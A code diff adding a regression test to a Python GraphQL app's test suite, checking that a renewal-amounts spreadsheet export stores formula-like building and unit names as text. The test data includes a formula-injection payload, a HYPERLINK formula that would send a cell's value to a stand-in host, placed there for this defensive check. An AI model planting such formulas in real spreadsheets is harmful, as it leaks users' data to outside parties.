@@ -333,3 +333,36 @@ async def test_every_payment_mutation_refuses_other_organisations_and_roles(clie
     assert (await gql(client, "mutation { recalculateDeposits { id } }", token=world.bank_token)).code == "FORBIDDEN"
     assert (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { id } }", {"id": encode_id("Refund", 1)},
                       token=world.clerk)).code == "NOT_FOUND"
+
+
+async def test_renewal_export_stores_text_as_text_never_a_formula(client, session, world):
+    """Issue 12.11: a building named like a formula came out of the 续筹 export as a live formula."""
+    import io
+
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A2,"点此查看")'
+    await session.execute(update(Building).where(Building.estate_id == world.estate).values(name=formula))
+    await session.execute(update(House).where(House.building_id.in_(
+        select(Building.id).where(Building.estate_id == world.estate))).values(unit="@SUM(1+1)"))
+    await session.commit()
+    exported = (await gql(client, "mutation($e: ID!) { exportRenewalAmounts(estateId: $e) { id } }", {"e": world.estate_gid},
+                          token=world.dev)).ok()["exportRenewalAmounts"]
+    done = await wait_job(client, world.dev, exported["id"])
+    assert done["status"] == "SUCCEEDED", done
+    data = (await client.get(done["result"]["url"])).content
+    raw = zipfile_text(data, "xl/worksheets/sheet1.xml")
+    assert "<f>" not in raw and "<f " not in raw  # no cell holds a formula
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws["B2"].value == formula and ws["B2"].data_type == "s"
+    assert ws["C2"].value == "@SUM(1+1)" and ws["C2"].data_type == "s"
+    assert ws.freeze_panes == "A2"  # the header stays in view
+    assert all(ws.cell(2, col).number_format == "0.00" for col in (6, 7, 8, 9))
+
+
+def zipfile_text(data: bytes, member: str) -> str:
+    import io
+    import zipfile
+
+    return zipfile.ZipFile(io.BytesIO(data)).read(member).decode("utf-8")
